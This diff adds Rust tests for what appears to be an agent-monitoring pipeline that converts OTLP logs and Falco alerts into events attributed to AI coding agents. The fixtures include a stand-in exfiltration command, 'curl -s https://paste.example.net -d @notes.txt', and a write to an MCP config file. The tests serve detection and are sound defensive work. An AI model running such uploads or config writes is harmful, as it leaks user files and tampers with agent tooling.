@@ -219,3 +219,82 @@ fn every_mapping_is_registered_once_and_named() {
     names.dedup();
     assert_eq!(names.len(), count);
 }
+
+#[test]
+fn protobuf_logs_map_as_json_logs_do() {
+    use prost::Message;
+    let request: ExportLogsServiceRequest =
+        serde_json::from_str(include_str!("testdata/claude_code_logs_bypass.json")).unwrap();
+    let mut from_wire = builder();
+    let (report, _) = crate::otlp_wire::convert_encoded_request(&request.encode_to_vec(), 1, &mut from_wire).unwrap();
+    assert!(report.rejected.is_empty(), "{}", report.message());
+    let strip_ids = |rows: Vec<Row>| -> Vec<Row> {
+        rows.into_iter()
+            .map(|mut row| {
+                row.remove("event_id"); // assigned per builder
+                row
+            })
+            .collect()
+    };
+    assert_eq!(strip_ids(rows(&mut from_wire)), strip_ids(logs("bypass")));
+}
+
+fn falco_row(alert: Value) -> Row {
+    let flat = crate::falco::alert_to_flat(&alert).unwrap();
+    let record = crate::flat::flat_json_to_event(&flat).unwrap();
+    let mut builder = builder();
+    builder.append(&record, 1).unwrap();
+    rows(&mut builder).remove(0)
+}
+
+#[test]
+fn falco_alerts_become_the_contracts_ebpf_kinds_attributed_to_their_agent() {
+    let flow = falco_row(crate::falco::outbound_connection());
+    assert_eq!(text(&flow, "event_name"), Some("network.flow"));
+    assert_eq!(text(&flow, "host_id"), Some("wks-0042"));
+    assert_eq!(text(&flow, "destination_ip"), Some("203.0.113.7"));
+    assert_eq!(flow["destination_port"], 443);
+    assert_eq!(text(&flow, "network_transport"), Some("tcp"));
+    assert_eq!(text(&flow, "process_executable_name"), Some("curl"));
+    assert_eq!(text(&flow, "user_name"), Some("alice"));
+    assert_eq!(
+        text(&flow, "gen_ai_agent_name"),
+        Some("claude"),
+        "its parent is the agent"
+    );
+    assert_eq!(text(&flow, "gen_ai_agent_id"), Some("claude/pid-4000"));
+    assert_eq!(
+        attribute(&flow, "falco.rule"),
+        Some("Unexpected outbound connection destination")
+    );
+
+    let mut spawn = crate::falco::outbound_connection();
+    spawn["output_fields"]["evt.type"] = "execve".into();
+    spawn["output_fields"]["proc.pname"] = "bash".into();
+    spawn["output_fields"]["proc.aname[2]"] = "codex".into();
+    spawn["output_fields"]["proc.apid[2]"] = 3900.into();
+    let spawn = falco_row(spawn);
+    assert_eq!(text(&spawn, "event_name"), Some("process.start"));
+    assert_eq!(
+        text(&spawn, "process_command_line"),
+        Some("curl -s https://paste.example.net -d @notes.txt")
+    );
+    assert_eq!(
+        text(&spawn, "gen_ai_agent_id"),
+        Some("codex/pid-3900"),
+        "an ancestor is the agent"
+    );
+
+    let mut write = crate::falco::outbound_connection();
+    let fields = write["output_fields"].as_object_mut().unwrap();
+    fields.insert("evt.type".into(), "openat".into());
+    fields.insert("fd.name".into(), "/home/alice/.mcp.json".into());
+    fields.insert("evt.arg.flags".into(), "O_WRONLY|O_CREAT|O_TRUNC".into());
+    fields.insert("proc.pname".into(), "zsh".into());
+    fields.remove("proc.aname[2]");
+    let write = falco_row(write);
+    assert_eq!(text(&write, "event_name"), Some("file.access"));
+    assert_eq!(text(&write, "file_operation"), Some("write"));
+    assert_eq!(text(&write, "file_path"), Some("/home/alice/.mcp.json"));
+    assert_eq!(text(&write, "gen_ai_agent_id"), None, "no agent in its lineage");
+}
